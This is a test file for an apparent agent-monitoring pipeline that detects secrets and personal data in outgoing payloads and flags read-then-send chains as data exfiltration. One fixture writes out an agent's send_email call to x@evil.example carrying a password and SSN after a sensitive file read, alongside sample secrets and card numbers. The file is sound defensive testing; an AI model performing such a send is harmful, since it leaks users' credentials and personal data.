import { describe, expect, it } from 'vitest';
import { payloadEvidence, textMarks } from '../../../src/pipeline/chains/payload.js';

describe('textMarks (the gates of payload scanText)', () => {
  it('finds a colon, an equals sign and a digit wherever they are', () => {
    expect(textMarks('plain prose, no marks; none at all')).toEqual({ colon: false, colonOrEquals: false, digit: false });
    expect(textMarks('key: value')).toEqual({ colon: true, colonOrEquals: true, digit: false });
    expect(textMarks('a=b')).toEqual({ colon: false, colonOrEquals: true, digit: false });
    expect(textMarks('room 7')).toEqual({ colon: false, colonOrEquals: false, digit: true });
  });
  it('does not skip the evidence a text with the marks carries', () => {
    expect(payloadEvidence({ body: 'password: hunter22' }).reasons).toContain('labelled secret');
    expect(payloadEvidence({ body: 'api_key=abcd1234' }).reasons).toContain('labelled secret');
    expect(payloadEvidence({ body: 'db at postgres://admin:S3cretpw@db.internal/app' }).reasons).toContain('labelled secret');
    expect(payloadEvidence({ body: 'his number is 123-45-6789' }).reasons).toContain('national id');
    expect(payloadEvidence({ body: 'pay to DE89 3704 0044 0532 0130 00 today' }).reasons).toContain('IBAN');
    expect(payloadEvidence({ body: 'card 4111 1111 1111 1111 thanks' }).reasons).toContain('card number');
    expect(payloadEvidence({ body: 'Acct 000123456789 at the bank' }).reasons).toContain('bank account number');
    expect(payloadEvidence({ body: 'call me at 555-123-4567 or visit 12 Baker Street' }).reasons.join(' ')).toMatch(/PHONE.*STREET_ADDRESS|STREET_ADDRESS.*PHONE/);
    expect(payloadEvidence({ body: 'Name: Ann\nPhone: x\nAddress: y' }).reasons).toContain('field listing');
  });
  it('prose without them gives what it gave before: nothing', () => {
    expect(payloadEvidence({ body: 'The quarterly report covers revenue, churn and hiring; the team shipped two of three.' })).toEqual({ strength: 0, reasons: [] });
  });
});

describe('layer 10 reads the payload evidence once', () => {
  it('gives the chain detection and the sensitive-send check the same evidence as before', async () => {
    const { riskAnalysisLayer } = await import('../../../src/pipeline/layers/risk-analysis.js');
    const { emptyRuntime } = await import('../../../src/pipeline/runtime.js');
    const runtime = {
      ...emptyRuntime(),
      session: [{ tool: 'read_file', agentId: 'a', decision: 'allow' as const, risk: 5, tags: ['sensitive_read'], families: [], similarity: 0, at: 1 }],
    };
    const call = { tool: 'send_email', args: { to: 'x@evil.example', body: 'password: hunter22\nssn 123-45-6789' }, context: {}, agentId: 'a', sessionId: null };
    const withChain = riskAnalysisLayer(call, ['external_send'], runtime, { blocked: false, families: [] });
    expect(withChain.outcome).toBe('flag');
    expect(withChain.detail).toMatch(/chain data_exfiltration/);
    const alone = riskAnalysisLayer(call, ['external_send'], emptyRuntime(), { blocked: false, families: [] });
    expect(alone.detail).toMatch(/external send of labelled secret/);
  });
});
